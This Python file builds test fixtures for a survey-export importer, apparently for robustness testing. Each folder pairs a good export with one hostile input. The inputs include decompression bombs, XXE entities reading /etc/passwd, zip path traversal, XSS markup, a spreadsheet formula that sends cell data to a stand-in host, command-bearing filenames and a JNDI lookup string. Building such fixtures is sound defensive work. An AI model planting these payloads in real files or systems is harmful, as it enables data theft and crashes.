"""Builds forty folders that somebody means ill with: each a good export and one hostile thing.

Names that are commands, zips that are endless, tables that span the world, text that is markup, a
formula or written backwards, links that go round or out.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import socket
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from openpyxl import Workbook

HOSTILE: dict[str, Callable[[Path], None]] = {}
QUESTION = "Waar loopt u tegenaan?"
MARKUP = "</script><script>window.hacked=1</script><img src=x onerror=hacked()>"
FORMULA = '=HYPERLINK("http://kwaad.example/"&A1,"klik")'
BACKWARDS = "\u202egnp.exe\u202c gpj\u2066\u2069"
ESCAPED = Path(tempfile.gettempdir()) / "ontsnapt.csv"  # where a path that climbs would end
_MILLION = 1_000_000


def hostile(function: Callable[[Path], None]) -> Callable[[Path], None]:
    """Register what puts one hostile thing into a folder."""
    HOSTILE[function.__name__] = function
    return function


def answers(*texts: str) -> str:
    """A small export; the given answers among good ones."""
    good = [f"Het busje komt in week {n} te laat bij onze school" for n in range(12)]
    rows = [f'{n};ouder;"{text.replace(chr(34), chr(34) * 2)}"'
            for n, text in enumerate((*good, *texts))]  # fmt: skip
    return "\n".join([f"ID;Rol;{QUESTION}", *rows]) + "\n"


def _zip(path: Path, parts: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)


def _part(path: Path, name: str, change: Callable[[bytes], bytes]) -> None:
    """One part of a zipped document another one."""
    with zipfile.ZipFile(path) as old:
        parts = {info: old.read(info) for info in old.namelist()}
    parts[name] = change(parts[name])
    _zip(path, parts)


def _book(path: Path, rows: list[list[object]]) -> None:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)


def _cells(rows: str) -> Callable[[bytes], bytes]:
    def change(sheet: bytes) -> bytes:
        return sheet.replace(b"</sheetData>", rows.encode() + b"</sheetData>")

    return change


def _sheet(folder: Path, rows: str) -> None:
    path = folder / "blad.xlsx"
    _book(path, [["ID", QUESTION], [1, "De taxi komt te laat"]])
    _part(path, "xl/worksheets/sheet1.xml", _cells(rows))


def _word(folder: Path, xml: str) -> None:
    path = folder / "verslag.docx"
    document = Document()
    document.add_heading("Verslag", 1)
    document.add_paragraph("De taxi komt te laat.", style="List Bullet")
    document.element.body.insert(1, parse_xml(xml))
    document.save(str(path))


_W = nsdecls("w")


# Zips


@hostile
def zip_of_zips_of_zips(folder: Path) -> None:
    data = b"0" * _MILLION
    for depth in range(12):
        held = io.BytesIO()
        with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as out:
            for copy in range(3):
                out.writestr(f"{depth}-{copy}.zip", data)
        data = held.getvalue()
    (folder / "alles.zip").write_bytes(data)


@hostile
def docx_of_two_hundred_megabytes_of_nothing(folder: Path) -> None:
    path = folder / "verslag.docx"
    Document().save(str(path))
    start = b"<w:document " + _W.encode() + b"><w:body><w:p><w:r><w:t>"
    _part(path, "word/document.xml", lambda _: start + b" " * 200 * _MILLION)


@hostile
def xlsx_whose_rows_are_all_the_same_row(folder: Path) -> None:
    _sheet(folder, '<row r="3"><c r="B3" t="inlineStr"><is><t>a</t></is></c></row>' * 50_000)


@hostile
def zip_with_paths_that_climb(folder: Path) -> None:
    _zip(
        folder / "export.zip",
        {
            f"../../..{ESCAPED.as_posix()}": answers().encode(),
            "/etc/ontsnapt": b"x",
            "C:\\w.csv": b"x",
        },
    )


@hostile
def zip_that_says_it_is_empty(folder: Path) -> None:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("a.csv", b"0" * 10 * _MILLION)
    data = bytearray(held.getvalue())
    at = data.rfind(b"PK\x01\x02") + 24  # the size once unpacked, in the list at the end
    data[at : at + 4] = (1).to_bytes(4, "little")
    (folder / "klein.zip").write_bytes(bytes(data))


@hostile
def gzip_under_the_name_of_a_table(folder: Path) -> None:
    (folder / "blad.csv").write_bytes(gzip.compress(b"a;b\n" * _MILLION))


# Workbooks


@hostile
def xlsx_with_a_row_beyond_the_world(folder: Path) -> None:
    _sheet(folder, '<row r="99999999999999"><c r="A99999999999999"><v>1</v></c></row>')


@hostile
def xlsx_with_a_column_beyond_the_world(folder: Path) -> None:
    _sheet(folder, '<row r="3"><c r="ZZZZZZZZZ3"><v>1</v></c></row>')


@hostile
def xlsx_with_a_row_below_nothing(folder: Path) -> None:
    _sheet(folder, '<row r="-5"><c r="A-5"><v>1</v></c></row><row r="x"/>')


@hostile
def xlsx_merged_from_end_to_end(folder: Path) -> None:
    path = folder / "blad.xlsx"
    _book(path, [["ID", QUESTION], [1, "De taxi komt te laat"]])
    merged = b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    _part(path, "xl/worksheets/sheet1.xml", lambda s: s.replace(b"</sheetData>", merged))


@hostile
def xlsx_whose_string_is_the_millionth(folder: Path) -> None:
    _sheet(folder, '<row r="3"><c r="A3" t="s"><v>999999999</v></c></row>')


@hostile
def xlsx_whose_date_is_no_day(folder: Path) -> None:
    _book(folder / "blad.xlsx", [["Datum", QUESTION], *[[10**n, "De taxi"] for n in range(12)]])


@hostile
def xlsx_with_entities_from_outside(folder: Path) -> None:
    path = folder / "blad.xlsx"
    _book(path, [["ID", QUESTION], [1, "De taxi komt te laat"]])
    head = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    _part(path, "xl/workbook.xml", lambda data: head + data[data.find(b"<workbook") :])


@hostile
def xlsx_of_formulas(folder: Path) -> None:
    book = Workbook()
    book.active.append(["ID", QUESTION])
    for n in range(12):
        book.active.append([n, FORMULA if n % 2 else "=1/0"])
    book.save(folder / "blad.xlsx")


@hostile
def xlsx_whose_sheets_are_named_for_folders(folder: Path) -> None:
    path = folder / "blad.xlsx"
    _book(path, [["ID", QUESTION], [1, "De taxi komt te laat"]])
    _part(path, "xl/workbook.xml", lambda d: d.replace(b'name="Sheet"', b'name="..&#47;..&#47;x"'))


# Word, PDF and other documents


@hostile
def docx_of_tables_in_tables(folder: Path) -> None:
    table = "<w:p><w:r><w:t>De taxi komt te laat</w:t></w:r></w:p>"
    for _ in range(400):
        table = f"<w:tbl><w:tr><w:tc>{table}<w:p/></w:tc></w:tr></w:tbl>"
    _word(folder, f"<w:p {_W}/>")
    change = lambda data: data.replace(b"<w:sectPr", table.encode() + b"<w:sectPr", 1)  # noqa: E731
    _part(folder / "verslag.docx", "word/document.xml", change)


@hostile
def docx_whose_cell_spans_everything(folder: Path) -> None:
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr><w:p/></w:tc>'
    _word(folder, f"<w:tbl {_W}><w:tr>{cell}</w:tr><w:tr>{cell}</w:tr></w:tbl>")


@hostile
def docx_with_entities_from_outside(folder: Path) -> None:
    _word(folder, f"<w:p {_W}/>")
    head = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:9/e">]>'
    _part(
        folder / "verslag.docx",
        "word/document.xml",
        lambda data: head + data[data.find(b"<w:document") :].replace(b"taxi", b"&e;"),
    )


@hostile
def docx_whose_lists_number_each_other(folder: Path) -> None:
    _word(folder, f'<w:p {_W}><w:pPr><w:pStyle w:val="Lus"/></w:pPr></w:p>')
    loop = (
        '<w:style w:type="paragraph" w:styleId="Lus"><w:basedOn w:val="Lus2"/></w:style>'
        '<w:style w:type="paragraph" w:styleId="Lus2"><w:basedOn w:val="Lus"/></w:style></w:styles>'
    )
    change = lambda data: data.replace(b"</w:styles>", loop.encode())  # noqa: E731
    _part(folder / "verslag.docx", "word/styles.xml", change)


@hostile
def docx_that_fetches_its_template(folder: Path) -> None:
    _word(folder, f"<w:p {_W}/>")
    link = (
        b'<Relationship Id="rId999" TargetMode="External" Target="http://127.0.0.1:9/t.dotm" Type='
        b'"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    )
    _part(
        folder / "verslag.docx",
        "word/_rels/document.xml.rels",
        lambda data: data.replace(b"</Relationships>", link + b"</Relationships>"),
    )


@hostile
def pdf_whose_pages_are_their_own_parents(folder: Path) -> None:
    (folder / "verslag.pdf").write_bytes(
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 999999999>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


@hostile
def pdf_that_is_a_bomb(folder: Path) -> None:
    import zlib

    data = b"0" * 100 * _MILLION
    for _ in range(2):
        data = zlib.compress(data, 9)
    head = b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n" % len(data)
    (folder / "verslag.pdf").write_bytes(
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj\n4 0 obj"
        + head + data + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )  # fmt: skip


@hostile
def rtf_of_a_hundred_thousand_brackets(folder: Path) -> None:
    (folder / "verslag.rtf").write_text("{\\rtf1 " + "{" * 100_000 + "taxi" + "}" * 50_000, "ascii")


@hostile
def json_a_hundred_thousand_deep(folder: Path) -> None:
    (folder / "export.json").write_text("[" * 100_000 + "]" * 100_000, "ascii")


@hostile
def mail_of_mails_of_mails(folder: Path) -> None:
    head = "From: a@b.nl\nSubject: x\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n"
    (folder / "brief.eml").write_text(head * 2_000 + "De taxi komt te laat.\n", "ascii")


@hostile
def svg_and_html_that_are_called_csv(folder: Path) -> None:
    (folder / "blad.csv").write_text(f"<html><body>{MARKUP}</body></html>\n", "utf-8")


# Text


@hostile
def csv_full_of_nuls(folder: Path) -> None:
    text = answers("De taxi\x00komt\x00te laat", "\x00" * 1_000)
    (folder / "enquete.csv").write_bytes(text.encode() + b"\x00" * 10_000)


@hostile
def answers_that_are_markup(folder: Path) -> None:
    texts = [f"{MARKUP} de taxi komt te laat {n}" for n in range(6)]
    (folder / "enquete.csv").write_text(answers(*texts), "utf-8")


@hostile
def answers_that_are_formulas(folder: Path) -> None:
    texts = [f"{FORMULA} {n}" for n in range(3)] + ["@SUM(1)", "+1+1", "-2+3", "\t=1", "|cmd"]
    (folder / "enquete.csv").write_text(answers(*texts), "utf-8")


@hostile
def answers_written_backwards(folder: Path) -> None:
    texts = [f"De taxi {BACKWARDS} komt te laat {n}" for n in range(6)]
    (folder / "enquete.csv").write_text(answers(*texts), "utf-8")


@hostile
def answers_of_half_characters(folder: Path) -> None:
    raw = answers("De taxi \ud800 komt", "e" + "\u0301" * 5_000, "👩‍👩‍👧‍👦" * 500)
    (folder / "enquete.csv").write_bytes(raw.encode("utf-8", "surrogatepass"))


@hostile
def a_question_that_is_a_template(folder: Path) -> None:
    text = answers("De taxi {0.__class__} %s %(x)s ${jndi:ldap://x} komt te laat")
    text = text.replace(QUESTION, '"{question} %s [[x]] \\" ]]> <b>Waarom?</b>"')
    (folder / "enquete.csv").write_text(text, "utf-8")


@hostile
def csv_whose_quote_is_never_closed(folder: Path) -> None:
    (folder / "enquete.csv").write_text(answers() + '99;ouder;"' + "de taxi\n" * 200_000, "utf-8")


@hostile
def columns_with_one_name_or_none(folder: Path) -> None:
    head = ";".join([QUESTION] * 30 + [""] * 30)
    (folder / "enquete.csv").write_text("\n".join([head, ";".join(["De taxi"] * 60)] * 9), "utf-8")


@hostile
def ods_of_marks_in_marks(folder: Path) -> None:
    deep = "<text:span>" * 50_000 + "x" + "</text:span>" * 50_000
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "text", "table")
    )
    content = (
        f"<office:document-content {spaces}><office:body><office:spreadsheet>"
        '<table:table table:name="A"><table:table-row>'
        f'<table:table-cell office:value-type="string"><text:p>{deep}</text:p></table:table-cell>'
        "</table:table-row></table:table></office:spreadsheet></office:body>"
        "</office:document-content>"
    )
    kind = b"application/vnd.oasis.opendocument.spreadsheet"
    _zip(folder / "diep.ods", {"mimetype": kind, "content.xml": content.encode()})


@hostile
def json_with_a_number_of_ten_thousand_digits(folder: Path) -> None:
    number = "9" * 10_000
    (folder / "getal.json").write_text(f'[{{"reactie": "bus te laat", "n": {number}}}]', "utf-8")


@hostile
def a_corpus_toml_of_brackets(folder: Path) -> None:
    (folder / "corpus.toml").write_text("rounds = " + "[" * 500 + "]" * 500, "utf-8")


# Names and links


@hostile
def links_that_go_round(folder: Path) -> None:
    (folder / "a").mkdir()
    (folder / "a" / "rond").symlink_to(folder, target_is_directory=True)
    (folder / "kop.csv").symlink_to(folder / "staart.csv")
    (folder / "staart.csv").symlink_to(folder / "kop.csv")


@hostile
def links_that_lead_out(folder: Path) -> None:
    (folder / "wachtwoorden.csv").symlink_to("/etc/passwd")
    (folder / "eindeloos.csv").symlink_to("/dev/zero")


@hostile
def things_that_are_no_files(folder: Path) -> None:
    os.mkfifo(folder / "pijp.csv")
    held = socket.socket(socket.AF_UNIX)
    here = Path.cwd()
    os.chdir(folder)  # the name of a socket may hold 107 characters
    try:
        held.bind("stekker.csv")
    finally:
        os.chdir(here)
        held.close()


@hostile
def names_that_are_markup_and_commands(folder: Path) -> None:
    for name in (
        "<img src=x onerror=alert(1)>.csv",
        "$(touch ontsnapt).csv",
        "=1+1.csv",
        "-rf.csv",
    ):
        (folder / name).write_text(answers(name), "utf-8")


@hostile
def names_of_two_lines_and_backwards(folder: Path) -> None:
    for name in ("een\nregel.csv", f"{BACKWARDS}.csv", "terug\x1b[2Jscherm.csv", "con .csv"):
        (folder / name).write_text(answers(), "utf-8")


@hostile
def names_that_are_no_text(folder: Path) -> None:
    Path(os.fsdecode(os.fsencode(folder) + b"/\xff\xfe-enqu\xeate.csv")).write_text(
        answers(), "utf-8"
    )


@hostile
def a_corpus_toml_that_climbs(folder: Path) -> None:
    (folder / "corpus.toml").write_text(
        '[corpus]\nname = "../../ontsnapt"\ntitle = "x"\norganisation = "x"\n'
        'plan = "/etc/passwd"\n[rounds.1]\ntitle = "x"\ndate = 2024-01-01\nkind = "survey"\n'
        'file = "../../../etc/passwd"\n',
        "utf-8",
    )


@hostile
def a_thousand_files(folder: Path) -> None:
    for n in range(1_000):
        (folder / f"{n}.json").write_text(json.dumps({"x": n}), "utf-8")


def built(name: str, folder: Path) -> Path:
    """A folder with a good export and this hostile thing beside it."""
    folder.mkdir(parents=True)
    (folder / "goed.csv").write_text(answers(), "utf-8")
    HOSTILE[name](folder)
    return folder
